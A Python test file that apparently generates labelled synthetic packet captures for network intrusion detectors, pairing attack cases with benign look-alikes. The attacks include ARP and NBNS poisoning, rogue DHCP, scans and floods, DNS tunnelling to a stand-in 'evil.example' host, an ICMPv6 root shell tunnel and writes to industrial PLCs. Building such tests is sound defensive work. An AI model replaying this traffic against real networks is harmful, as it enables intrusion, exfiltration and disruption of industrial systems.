"""A second round, written after the detectors had been improved on the first and before they were run on it."""

import random

from scapy.all import DNS, DNSQR, DNSRR, ICMP, IP, TCP, UDP, Dot1Q, Ether, ICMPv6EchoRequest, IPv6, Raw
from scapy.layers.vrrp import VRRP

from attacks import answered, arp, bootp, bpdu, lsu, rip4, rmac
from services import PLC, RESOLVER, SCADA, ask, brute, bvlc, dnp3, iec104, large, modbus, poll_modbus, s7, smb2, ssh, tell
from wire import ALL, EVIL, FAR, GATEWAY, OTHER, VICTIM, Conn, benign, case, everyday, get, ip, mac, tcp, tls, udp

RNG = random.Random(23)


def attack(name, expect, **more):
    return case(name, expect, round=2, **more)


def twin(name):
    return benign(name, round=2)


# Attacks.

@attack("ARP: the whole subnet told that the gateway moved", ["arp-spoofing", "arp-poisoning"], attacker=EVIL)
def arp_subnet():
    yield from everyday(40)
    for round in range(8):
        for n in range(10, 60):
            host = f"10.9.0.{n}"
            yield arp(1 + round * 5 + n * 0.001, 2, mac(EVIL), GATEWAY, host, mac(host), mac(host))


@attack("ARP requests that carry the claim", ["arp-spoofing", "arp-poisoning"], attacker=EVIL)
def arp_by_request():
    yield from everyday(40)
    yield arp(0.5, 1, mac(GATEWAY), GATEWAY, VICTIM, ALL)
    yield arp(0.501, 2, mac(VICTIM), VICTIM, GATEWAY, mac(GATEWAY), mac(GATEWAY))
    for n in range(15):
        yield arp(3 + n * 2, 1, mac(EVIL), GATEWAY, VICTIM, mac(VICTIM))


@attack("a rogue server that answers with another DNS server only", ["rogue-dhcp"], attacker=EVIL)
def rogue_dns():
    for n in range(3):
        client, t = f"02:00:5e:00:02:{n:02x}", n * 10
        yield bootp(t, client, "discover")
        yield bootp(t + 0.01, client, "offer", GATEWAY, f"10.9.0.{100 + n}", GATEWAY, mac(GATEWAY))
        yield bootp(t + 0.02, client, "offer", EVIL, f"10.9.0.{180 + n}", EVIL, mac(EVIL), router=GATEWAY, dns=EVIL)
        yield bootp(t + 0.03, client, "request", GATEWAY)
        yield bootp(t + 0.04, client, "ack", GATEWAY, f"10.9.0.{100 + n}", GATEWAY, mac(GATEWAY))


@attack("double tag over a VLAN that is not the default, beside the host's own traffic", ["vlan-hopping"], attacker=EVIL)
def double_tag():
    yield from everyday(20, hosts=(EVIL,))
    for n in range(4):
        yield 3 + n, Ether(src=mac(EVIL), dst="02:00:00:00:20:05") / Dot1Q(vlan=10) / Dot1Q(vlan=20) / IP(src=EVIL, dst="10.20.0.5") / UDP(sport=999, dport=514) / Raw(b"x")


@attack("rapid spanning tree root claim with priority 0", ["stp-root-claim"])
def rstp():
    switch = "00:1b:54:00:00:01"
    for n in range(20):
        yield bpdu(n * 2, switch, 32768, switch, 32768, switch)
    for n in range(8):
        yield bpdu(41 + n * 2, "00:0c:29:aa:bb:cc", 0, "00:0c:29:aa:bb:cc", 0, "00:0c:29:aa:bb:cc")


@attack("VRRP master claimed with 254, the old one going on", ["fhrp-takeover"], attacker=EVIL)
def vrrp_fight():
    for n in range(60):
        yield n, ip(GATEWAY, "224.0.0.18", 255, proto=112) / VRRP(vrid=3, priority=100, addrlist=["10.9.0.254"])
        if n >= 30:
            yield n + 0.3, ip(EVIL, "224.0.0.18", 255, proto=112) / VRRP(vrid=3, priority=254, addrlist=["10.9.0.254"])


@attack("vertical scan of 30 ports, hidden among 500 good connections", ["port-scan"], attacker=EVIL, victim=VICTIM)
def scan_hidden():
    for n in range(500):
        yield from get(n * 0.2, EVIL, 20000 + n, VICTIM)
        if n % 16 == 0:
            yield from answered(n * 0.2 + 0.1, EVIL, 60000, VICTIM, 1000 + n, set())


@attack("SYN scan by IPv6", ["port-scan"], attacker="2001:db8::66", victim="2001:db8::10")
def scan6():
    for port in range(1, 120):
        yield from answered(port * 0.02, "2001:db8::66", 40000, "2001:db8::10", port, {22, 80})


@attack("ping sweep", ["ping-sweep"], attacker=FAR)
def ping_sweep():
    for n in range(1, 255):
        yield n * 0.05, ip(FAR, f"10.9.0.{n}") / ICMP(id=1, seq=n)
        if n % 12 == 0:
            yield n * 0.05 + 0.001, ip(f"10.9.0.{n}", FAR) / ICMP(type=0, id=1, seq=n)


@attack("UDP scan refused by a Linux host", ["port-scan"], attacker=EVIL, victim=VICTIM)
def udp_scan():
    for n in range(100):
        probe = ip(EVIL, VICTIM) / UDP(sport=40000, dport=1000 + n)
        yield n * 0.4, probe
        if n < 6 or n % 3 == 0:
            yield n * 0.4 + 0.001, ip(VICTIM, EVIL) / ICMP(type=3, code=3) / probe[IP]


@attack("NetBIOS names asked on every address (nbtscan)", ["port-scan"], attacker=EVIL)
def nbtscan():
    for n in range(1, 255):
        if f"10.9.0.{n}" != EVIL:
            yield udp(n * 0.01, EVIL, 137, f"10.9.0.{n}", 137, bytes.fromhex("80f00010000100000000000020434b4141414141414141414141414141414141414141414141414141414141410000210001"))


@attack("SYN flood from one subnet, half answered", ["syn-flood"], victim=VICTIM)
def syn_subnet():
    for n in range(2500):
        source = f"203.0.113.{n % 254 + 1}"
        yield tcp(n * 0.002, source, 1024 + n, VICTIM, 80, "S", n)
        if n % 2:
            yield tcp(n * 0.002 + 0.001, VICTIM, 80, source, 1024 + n, "SA", 9, n + 1)


@attack("ACK flood at a server with real clients", ["ack-flood"], victim=VICTIM)
def ack_flood():
    for n in range(60):
        yield from get(n * 0.3, f"198.51.100.{n % 20 + 1}", 20000 + n, VICTIM)
    for n in range(5000):
        yield tcp(5 + n * 0.001, rip4(), RNG.randint(1024, 65000), VICTIM, 80, "A", RNG.getrandbits(32), RNG.getrandbits(32))


@attack("CLDAP amplification at the victim", ["amplification-victim"], victim=VICTIM)
def cldap():
    for n in range(1200):
        yield udp(n * 0.002, f"203.0.113.{n % 50 + 1}", 389, VICTIM, RNG.randint(1024, 65000), b"\x30\x84\x00\x00\x0b\x00" + bytes(1400))


@attack("chargen between two hosts", ["amplification-reflector", "udp-flood", "amplification-victim"])
def chargen():
    for n in range(1000):
        yield udp(n * 0.005, "192.0.2.80", 7, VICTIM, 19, b"x")
        yield udp(n * 0.005 + 0.001, VICTIM, 19, "192.0.2.80", 7, bytes(range(32, 106)) * 10)


@attack("HTTP flood of the same page (LOIC)", ["http-flood"], attacker=FAR, victim=VICTIM)
def loic():
    for n in range(1500):
        yield from get(n * 0.008, FAR, 10000 + n, VICTIM, "/", 200)


@attack("DNS tunnel over TXT with short pieces (dns2tcp)", ["dns-tunnel"], attacker=VICTIM)
def dns2tcp():
    for n in range(200):
        name = f"{RNG.randbytes(14).hex()}.dns2.evil.example"
        yield ask(n * 0.2, VICTIM, 40000, RESOLVER, name, "TXT", n)
        yield tell(n * 0.2 + 0.02, VICTIM, 40000, RESOLVER, name, RNG.randbytes(60).hex(), "TXT", n)


@attack("slow exfiltration: one lookup every eight seconds", ["dns-tunnel"], attacker=VICTIM)
def dns_slow():
    yield from everyday(60)
    for n in range(150):
        name = f"{RNG.randbytes(28).hex()}.{n}.cdn-static.example"
        yield ask(n * 8, VICTIM, 40000 + n, RESOLVER, name, "A", n)
        yield tell(n * 8 + 0.02, VICTIM, 40000 + n, RESOLVER, name, "192.0.2.7", "A", n)


@attack("two answers, the forged one without a name", ["dns-poisoning"], victim=VICTIM)
def dns_nxdomain():
    for n in range(3):
        name = f"blocked{n}.example.com"
        yield ask(n * 3, VICTIM, 40000 + n, RESOLVER, name, "A", 7 + n)
        yield n * 3 + 0.002, ip(RESOLVER, VICTIM, 47) / UDP(sport=53, dport=40000 + n) / DNS(id=7 + n, qr=1, rcode=3, qd=DNSQR(qname=name))
        yield tell(n * 3 + 0.05, VICTIM, 40000 + n, RESOLVER, name, f"203.0.113.{n + 9}", "A", 7 + n)


@attack("ICMPv6 echo that carries a shell", ["icmp-tunnel"])
def icmp6():
    from scapy.all import ICMPv6EchoReply
    for n in range(40):
        yield n * 0.5, ip("2001:db8::10", "2001:db8:6::66") / ICMPv6EchoRequest(id=3, seq=n, data=b"id;%d\n" % n)
        yield n * 0.5 + 0.02, ip("2001:db8:6::66", "2001:db8::10") / ICMPv6EchoReply(id=3, seq=n, data=b"uid=0(root) gid=0(root)\n")


@attack("SSH passwords guessed, three a connection, then one right", ["brute-force"], attacker=FAR, victim=VICTIM)
def ssh_three():
    for n in range(20):
        conn = Conn(n * 4, FAR, 40000 + n, VICTIM, 22, rtt=0.03)
        conn.ask(b"SSH-2.0-Go\r\n").tell(b"SSH-2.0-OpenSSH_8.4p1 Debian-5\r\n").ask(RNG.randbytes(1100)).tell(RNG.randbytes(1080))
        conn.ask(RNG.randbytes(48)).tell(RNG.randbytes(640)).ask(RNG.randbytes(16)).ask(RNG.randbytes(44)).tell(RNG.randbytes(44))
        conn.ask(RNG.randbytes(60)).tell(RNG.randbytes(60))
        for _ in range(3):
            conn.ask(RNG.randbytes(148), 0.5).tell(RNG.randbytes(60), 1)
        yield from conn.close()
    yield from ssh(90, FAR, 41000, VICTIM, True)


@attack("MySQL passwords guessed", ["brute-force"], attacker=FAR, victim=VICTIM)
def mysql():
    for n in range(40):
        greeting = b"\x4a\x00\x00\x00\x0a8.0.30\x00" + bytes(66)
        login = b"\x50\x00\x00\x01" + bytes(80)
        no = b"\x48\x00\x00\x02\xff\x15\x04#28000Access denied for user 'root'@'x' (using password: YES)"
        yield from brute(n * 0.4, FAR, 40000 + n, VICTIM, 3306, [(1, greeting), (0, login), (1, no)])


@attack("SMB 1 passwords guessed over many hosts", ["brute-force"], attacker=EVIL)
def smb1():
    for n in range(50):
        no = b"\x00\x00\x00\x23\xffSMB\x73\x6d\x00\x00\xc0\x98\x07\xc8" + bytes(24)
        yield from brute(n * 0.3, EVIL, 40000 + n, f"10.9.0.{100 + n % 25}", 445, [(0, b"\x00\x00\x00\x40\xffSMB\x73" + bytes(59)), (1, no)])


@attack("Kerberos users tried out", ["brute-force"], attacker=EVIL, victim=VICTIM)
def kerberos():
    for n in range(60):
        error = bytes.fromhex("7e523050a003020105a10302011ea411180f32303233303130313030303030305aa50502030f4240a603020118") + bytes(30)
        yield udp(n * 0.5, EVIL, 40000 + n, VICTIM, 88, bytes.fromhex("6a81") + bytes(160))
        yield udp(n * 0.5 + 0.005, VICTIM, 88, EVIL, 40000 + n, error)


@attack("beacon every 90 seconds with 20 % jitter", ["beaconing"], attacker=VICTIM)
def beacon():
    yield from everyday(600, hosts=(OTHER, VICTIM))
    t = 3.0
    for n in range(25):
        yield from tls(t, VICTIM, 52000 + n, "198.51.100.222", up=RNG.randint(190, 210), down=RNG.randint(90, 400), port=8443, rtt=0.06)
        t += RNG.uniform(72, 108)


@attack("NBNS names answered for others (Responder)", ["name-poisoning"], attacker=EVIL)
def nbns():
    for n, name in enumerate(["WPAD", "FILESRV", "PRINTER9", "TYPOO", "INTRANT"]):
        raw = name.ljust(15).encode() + b"\x20"
        encoded = bytes(65 + x for b in raw for x in (b >> 4, b & 15))
        question = (100 + n).to_bytes(2, "big") + b"\x01\x10\x00\x01\x00\x00\x00\x00\x00\x00\x20" + encoded + b"\x00\x00\x20\x00\x01"
        answer = (100 + n).to_bytes(2, "big") + b"\x85\x00\x00\x00\x00\x01\x00\x00\x00\x00\x20" + encoded + b"\x00\x00\x20\x00\x01\x00\x00\x00\xa5\x00\x06\x00\x00" + bytes([10, 9, 0, 66])
        yield n * 4, Ether(src=mac(VICTIM), dst=ALL) / IP(src=VICTIM, dst="10.9.0.255") / UDP(sport=137, dport=137) / Raw(question)
        yield udp(n * 4 + 0.01, EVIL, 137, VICTIM, 137, answer)


@attack("DNP3 stations tried out", ["ics-scan"], attacker=EVIL, victim=PLC)
def dnp3_scan():
    from services import crc
    conn = Conn(1, EVIL, 50001, PLC, 20000)
    for n in range(60):
        head = b"\x05\x64\x0b\xc4" + n.to_bytes(2, "little") + b"\x01\x00"
        user = b"\xc0\xc0\x01\x3c\x01\x06"
        conn.ask(head + crc(head) + user + crc(user), 0.2)
        if n == 10:
            conn.tell(dnp3(b"\xc0\xc0\x81\x00\x00", False))
    yield from conn.close()


@attack("S7 program downloaded", ["ics-control-command"], attacker=EVIL, victim=PLC)
def s7_download():
    from services import COTP, COTP_OK
    conn = Conn(1, EVIL, 50001, PLC, 102)
    conn.ask(COTP).tell(COTP_OK).ask(s7(b"\xf0\x00\x00\x01\x00\x01\x01\xe0")).tell(s7(b"\xf0\x00\x00\x01\x00\x01\x00\xf0", 3))
    conn.ask(s7(b"\x1a\x00\x01\x00\x00\x00\x00\x00\x09_0800001P\x0d1000500000214")).tell(s7(b"\x1a", 3))
    conn.tell(s7(b"\x1b\x00\x00\x00\x00\x00\x00\x00\x09_0800001P")).ask(s7(b"\x1b\x00", 3, bytes(200)))
    conn.tell(s7(b"\x1c\x00\x00\x00\x00\x00\x00\x00\x09_0800001P")).ask(s7(b"\x1c", 3))
    yield from conn.close()


@attack("BACnet devices written by broadcast of time and by property", ["ics-write"], attacker=EVIL)
def bacnet_time():
    for n in range(5):
        yield n * 3, Ether(src=mac(EVIL), dst=ALL) / IP(src=EVIL, dst="10.9.0.255") / UDP(sport=47808, dport=47808) / Raw(bvlc(b"\x01\x20\xff\xff\x00\xff\x10\x06\xa4\x7b\x01\x01\x05\xb4\x00\x00\x00\x00", 0x0B))


# Twins.

@twin("monitoring that scrapes 30 targets every 15 seconds outside")
def scrape():
    for round in range(20):
        for n in range(30):
            yield from get(round * 15 + n * 0.3, OTHER, 20000 + round * 40 + n, f"10.20.0.{n + 1}", "/metrics", 6000, 9100)


@twin("a proxy in front of a busy server")
def proxy():
    pages = [f"/p/{n}" for n in range(200)]
    for n in range(1500):
        yield from get(n * 0.012, OTHER, 10000 + n, VICTIM, RNG.choice(pages[:20] if RNG.random() < 0.7 else pages), 900)


@twin("hash lookups of a mail filter and of DNSSEC")
def lookups():
    for n in range(300):
        name = RNG.choice([f"{RNG.randbytes(2).hex()}.surbl.example", "mail.example.com", f"host{n % 40}.corp.example", f"{RNG.randbytes(16).hex()}.hashes.example" if n % 12 == 0 else "www.example.org"])
        yield ask(n * 0.5, VICTIM, 20000 + n, RESOLVER, name, RNG.choice(["A", "AAAA", "DS"]), n)
        yield tell(n * 0.5 + 0.02, VICTIM, 20000 + n, RESOLVER, name, "127.0.0.4", "A", n)


@twin("IPv6 reverse lookups of a log analyser")
def reverse6():
    for n in range(200):
        name = ".".join(RNG.choice("0123456789abcdef") for _ in range(16)) + ".0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa"
        yield ask(n * 0.2, VICTIM, 20000 + n, RESOLVER, name, "PTR", n)
        yield n * 0.2 + 0.03, ip(RESOLVER, VICTIM) / UDP(sport=53, dport=20000 + n) / DNS(id=n, qr=1, rcode=3, qd=DNSQR(qname=name, qtype="PTR"))


@twin("SSH with five keys offered before the right one")
def many_keys():
    for n in range(40):
        conn = Conn(n * 3, OTHER, 40000 + n, VICTIM, 22, rtt=0.01)
        conn.tell(b"SSH-2.0-OpenSSH_9.6\r\n").ask(b"SSH-2.0-OpenSSH_9.6\r\n").ask(RNG.randbytes(1500)).tell(RNG.randbytes(1100))
        conn.ask(RNG.randbytes(1200)).tell(RNG.randbytes(1500)).ask(RNG.randbytes(16)).ask(RNG.randbytes(44)).tell(RNG.randbytes(44))
        for _ in range(5):
            conn.ask(RNG.randbytes(160)).tell(RNG.randbytes(60))
        conn.ask(RNG.randbytes(600)).tell(RNG.randbytes(28)).ask(RNG.randbytes(112)).tell(RNG.randbytes(500)).ask(RNG.randbytes(200)).tell(RNG.randbytes(176))
        yield from conn.close(0)


@twin("RDP sessions of an hour, and checks of the port")
def rdp():
    for n in range(60):
        conn = Conn(n * 30, GATEWAY, 40000 + n, VICTIM, 3389)
        conn.ask(bytes.fromhex("030000130ee000000000000100080003000000")).tell(bytes.fromhex("030000130ed000001234000209080002000000"))
        yield from conn.close(0)
    for n in range(3):
        conn = Conn(n * 100 + 5, OTHER, 50000 + n, VICTIM, 3389)
        conn.ask(RNG.randbytes(200)).tell(RNG.randbytes(1200))
        for _ in range(100):
            conn.tell(RNG.randbytes(1200), 0.5).ask(RNG.randbytes(80))
        yield from conn.close(0)


@twin("a mail server that tells many users that their password expired")
def pop_users():
    for n in range(100):
        client = f"10.9.0.{100 + n % 80}"
        lines = [(1, b"+OK ready\r\n"), (0, b"USER u\r\n"), (1, b"+OK\r\n"), (0, b"PASS p\r\n"), (1, b"-ERR [AUTH] password expired\r\n" if n % 7 == 0 else b"+OK Logged in.\r\n"), (0, b"QUIT\r\n")]
        yield from brute(n * 2, client, 40000 + n, VICTIM, 110, lines)


@twin("pings through a path that answers with less")
def short_pings():
    body = bytes(range(200))
    for n in range(100):
        yield n, ip(VICTIM, "203.0.113.8") / ICMP(id=4, seq=n) / Raw(body)
        yield n + 0.02, ip("203.0.113.8", VICTIM) / ICMP(type=0, id=4, seq=n) / Raw(body[:68])


@twin("browser pings with the same identifier again and again")
def repeated_pings():
    for n in range(60):
        for m in range(3):
            body = RNG.randbytes(32)
            yield n * 2 + m * 0.3, ip(VICTIM, FAR) / ICMP(id=1, seq=n % 5) / Raw(body)
            yield n * 2 + m * 0.3 + 0.02, ip(FAR, VICTIM) / ICMP(type=0, id=1, seq=n % 5) / Raw(body)


@twin("one resolver that forwards to two and answers with rotation")
def rotation():
    for n in range(60):
        pool = [f"203.0.113.{m}" for m in range(1, 9)]
        RNG.shuffle(pool)
        yield ask(n, VICTIM, 20000 + n, RESOLVER, "pool.example", "A", n)
        for again in range(2):
            answers = DNSRR(rrname="pool.example", rdata=pool[0], ttl=30) / DNSRR(rrname="pool.example", rdata=pool[1], ttl=30) / DNSRR(rrname="pool.example", rdata=pool[2], ttl=30)
            yield n + 0.03 + again * 0.001, ip(RESOLVER, VICTIM) / UDP(sport=53, dport=20000 + n) / DNS(id=n, qr=1, qd=DNSQR(qname="pool.example"), an=answers, ancount=3)


@twin("OSPF with two area border routers and a flapping link")
def ospf_flap():
    for n in range(40):
        yield lsu(n * 6, GATEWAY if n % 4 else "10.9.0.2", "192.0.2.7", 0x80000001 + n, links=1 + n % 3)
        yield lsu(n * 6 + 0.1, "10.9.0.2" if n % 4 else GATEWAY, "192.0.2.7", 0x80000001 + n, links=1 + n % 3)


@twin("a switch that joins with a worse priority, and TCNs")
def new_switch():
    first, new = "00:1b:54:00:00:01", "00:1b:54:00:00:09"
    for n in range(20):
        yield bpdu(n * 2, first, 4096, first, 4096, first)
    for n in range(6):
        yield bpdu(20 + n * 0.4, new, 32768, new, 32768, new)
    for n in range(10):
        yield bpdu(24 + n * 2, new, 4096, first, 32768, new, cost=4, flags=1)


@twin("a trunk with two tags both ways through one router")
def two_tags():
    for n in range(60):
        yield n * 0.2, Ether(src="02:00:00:00:cc:01", dst="02:00:00:00:cc:02") / Dot1Q(vlan=1) / Dot1Q(vlan=30) / IP(src="10.30.0.1", dst="10.30.0.2") / UDP(sport=4, dport=5) / Raw(b"q")
        yield n * 0.2 + 0.01, Ether(src="02:00:00:00:cc:02", dst="02:00:00:00:cc:01") / Dot1Q(vlan=1) / Dot1Q(vlan=30) / IP(src="10.30.0.2", dst="10.30.0.1") / UDP(sport=5, dport=4) / Raw(b"r")


@twin("a web server in a capture of its answers only, short connections")
def answers_only():
    for n in range(400):
        client = f"203.0.{n % 3 + 113}.{n % 250 + 1}"
        yield from [(t, p) for t, p in get(n * 0.05, client, 20000 + n, VICTIM, size=300) if p[IP].src == VICTIM]


@twin("background noise of the Internet at one address for two hours")
def noise():
    for n in range(360):
        source, port = rip4(), RNG.choice([22, 23, 80, 443, 445, 3389, 5060, 8080, 6379, RNG.randint(1, 65000)])
        yield tcp(n * 20 + RNG.random() * 10, source, RNG.randint(1024, 65000), VICTIM, port, "S", n)


@twin("video by UDP one way, 1,200 datagrams a second")
def video():
    for n in range(12000):
        yield udp(n / 1200, OTHER, 5004, VICTIM, 5004, b"\x80\x60" + n.to_bytes(2, "big") + RNG.randbytes(600))


@twin("a poller of SNMP whose devices are partly off")
def snmp():
    for round in range(6):
        for n in range(40):
            host, t = f"10.9.0.{100 + n}", round * 50 + n
            yield udp(t, OTHER, 40000, host, 161, b"\x30\x29" + bytes(39))
            if n % 5:
                yield udp(t + 0.01, host, 161, OTHER, 40000, b"\x30\x40" + bytes(62))


@twin("a host with three NetBIOS names and a name server")
def wins():
    for n in range(40):
        name = ["FILES", "FILES", "WORKGROUP", f"PC{n}"][n % 4]
        raw = name.ljust(15).encode() + bytes([(0, 0x20, 0, 0)[n % 4]])
        encoded = bytes(65 + x for b in raw for x in (b >> 4, b & 15))
        owner = bytes([10, 9, 0, 11]) if n % 4 < 3 else bytes([10, 9, 0, 100 + n])
        answer = n.to_bytes(2, "big") + b"\x85\x00\x00\x00\x00\x01\x00\x00\x00\x00\x20" + encoded + b"\x00\x00\x20\x00\x01\x00\x00\x00\xa5\x00\x06\x00\x00" + owner
        yield udp(n, OTHER, 137, VICTIM, 137, answer)


@twin("Modbus through a gateway, a few units off")
def modbus_gateway():
    conn = Conn(0, SCADA, 50000, PLC, 502)
    for n in range(120):
        unit = n % 8 + 1
        conn.ask(modbus(b"\x03\x00\x00\x00\x05", unit, n), 0.2)
        conn.tell(modbus(b"\x83\x0b", unit, n) if unit == 7 else modbus(b"\x03\x0a" + bytes(10), unit, n))
    yield from conn.close()


@twin("IEC 104 of two masters with test frames and lost segments")
def iec_lossy():
    for m, master in enumerate((SCADA, "10.9.0.21")):
        conn = Conn(m, master, 50000 + m, PLC, 2404)
        conn.ask(b"\x68\x04\x07\x00\x00\x00").tell(b"\x68\x04\x0b\x00\x00\x00")
        for n in range(150):
            conn.tell(iec104(13, 3, 2000 + n % 9, bytes(5), seq=n) * 2, 0.3)
            if n % 20 == 0:
                conn.ask(b"\x68\x04\x43\x00\x00\x00").tell(b"\x68\x04\x83\x00\x00\x00")
        packets = conn.out
        yield from [p for n, p in enumerate(packets) if n < 10 or n % 37]
